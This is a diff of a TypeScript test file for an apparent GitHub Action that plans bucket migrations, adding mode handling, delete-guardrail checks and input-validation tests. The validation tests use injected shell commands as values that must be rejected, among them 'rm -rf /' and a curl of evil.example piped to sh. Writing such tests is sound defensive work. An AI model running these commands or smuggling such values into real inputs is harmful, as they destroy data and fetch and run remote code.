@@ -127,6 +127,7 @@ describe('the plan action', () => {
       'over-guardrail': 'true',
       mappings: '["media","logs","bulk"]',
       'nightly-mappings': '["logs"]',
+      'nightly-modes': '{"logs":"incremental"}',
       'comment-url': 'https://github.example/octo-org/migrations/pull/7#issuecomment-41',
     });
     const [posted] = await created.getSeenRequests();
@@ -267,6 +268,33 @@ describe('the plan action', () => {
     expect(unguarded.summary).toContain('nothing to plan');
   });
 
+  test("plans each mapping in its own mode unless told one: a sync mapping's deletes and their guardrail", async () => {
+    const { workspace, eventPath } = workspaceWith({ 'ferry.yaml': fixture.syncYaml });
+    const plan = (inputs: Record<string, string>) =>
+      runAction({
+        action: 'plan',
+        workspace,
+        inputs: { 'base-config': 'ferry.yaml', mapping: 'mirror', ...inputs },
+        env: githubEnv({ eventName: 'workflow_dispatch', eventPath, apiUrl: api.url }),
+      });
+    const own = await plan({});
+    expect(own.stderr).toBe('');
+    expect(own.code).toBe(0);
+    expect(own.summary).toContain('**Exact** (sync mode)');
+    expect(own.summary).toContain('| delete | 2 objects, 100 B |');
+    expect(own.summary).toMatch(/Delete guardrails \(maxDeleteObjects 1, .*\*\*refused\*\*/);
+    // The delete guardrails are the run's to enforce: the plan reports them, fail-on-guardrail is maxBytesPerRun's.
+    expect(own.outputs['over-guardrail']).toBe('false');
+    const asCopy = await plan({ mode: 'copy' });
+    expect(asCopy.code).toBe(0);
+    expect(asCopy.summary).toContain('| delete | none | copy mode: nothing is deleted |');
+    const bad = await plan({ mode: 'mirror; rm -rf /' });
+    expect(bad.code).toBe(1);
+    expect(annotations(bad)).toEqual([
+      expect.stringMatching(/^::error::input mode: "mirror; rm -rf \/" is not one of/),
+    ]);
+  });
+
   describe('validate (the workflow_dispatch form)', () => {
     const validate = async (form: Record<string, string>) => {
       const { workspace, eventPath } = workspaceWith({ 'ferry.yaml': fixture.headYaml });
@@ -288,12 +316,23 @@ describe('the plan action', () => {
         workers: '6',
         'dry-run': 'true',
         'nightly-mappings': '["logs"]',
+        'nightly-modes': '{"logs":"incremental"}',
         'source-buckets': fixture.sourceBucket,
         'destination-buckets': fixture.destinationBucket,
       });
     });
 
     test.each([
+      ['copy', 'incremental'],
+      ['sync', 'sync'],
+    ])('turns the mode choice %s into an %s run', async (choice, mode) => {
+      const result = await validate({ mapping: 'logs', mode: choice, workers: '2' });
+      expect(result.code).toBe(0);
+      expect(result.outputs).toMatchObject({ 'mapping-id': 'logs', mode });
+    });
+
+    test.each([
+      ['an unknown mode', { mapping: 'logs', mode: 'incremental' }, 'mode'],
       ['a quote and a command', { mapping: 'logs"; curl https://evil.example/x | sh; "' }, 'mapping'],
       ['backticks', { mapping: 'logs`id`' }, 'mapping'],
       ['a line break', { mapping: 'logs\necho pwned' }, 'mapping'],
